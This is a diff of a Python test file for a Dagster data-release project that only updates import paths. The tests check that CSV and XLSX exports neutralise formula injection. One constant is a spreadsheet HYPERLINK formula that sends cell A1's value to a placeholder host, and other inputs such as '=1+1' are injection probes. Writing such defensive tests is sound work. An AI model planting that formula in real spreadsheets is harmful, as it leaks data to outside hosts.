@@ -18,9 +18,9 @@ import duckdb
 import pytest
 from test_release import YEAR, build_warehouse, fake_exports
 
-from dagster_project import release as rel
-from dagster_project.csv_safety import neutralise, neutralise_row
-from dagster_project.release import freeze, verify
+from dagster_project.lib.csv_safety import neutralise, neutralise_row
+from dagster_project.release import freeze as rel
+from dagster_project.release.freeze import freeze, verify
 
 FORMULA = '=HYPERLINK("http://exemple.invalid/?"&A1;"cliquez ici")'
 
@@ -160,7 +160,7 @@ def test_kpi_diff_csv(tmp_path):
 
 
 def test_notice_of_values_to_confirm(tmp_path):
-    from dagster_project.validation.notices import _write_atomically
+    from dagster_project.quality.notices import _write_atomically
 
     path = tmp_path / "eau_volumes_2025.xlsx.a_confirmer.csv"
     _write_atomically(path, [["=x", "@libellé", "", "2025", "-3,5", "-1\u202f234", "+10 %", "?"]])
@@ -170,7 +170,7 @@ def test_notice_of_values_to_confirm(tmp_path):
 
 
 def test_reminders_journal(tmp_path):
-    from dagster_project.campaign import record_reminder
+    from dagster_project.campaign.status import record_reminder
 
     journal = record_reminder(
         tmp_path,
@@ -189,7 +189,7 @@ def test_reminders_journal(tmp_path):
 
 
 def test_status_workbook_keeps_text_as_text(tmp_path):
-    from dagster_project.campaign import StatusRow, export_status_xlsx
+    from dagster_project.campaign.status import StatusRow, export_status_xlsx
 
     row = StatusRow(year=2025, department="water", source_id="eau_udi", owner="=1+1")
     path = export_status_xlsx([row], tmp_path / "etat.xlsx")
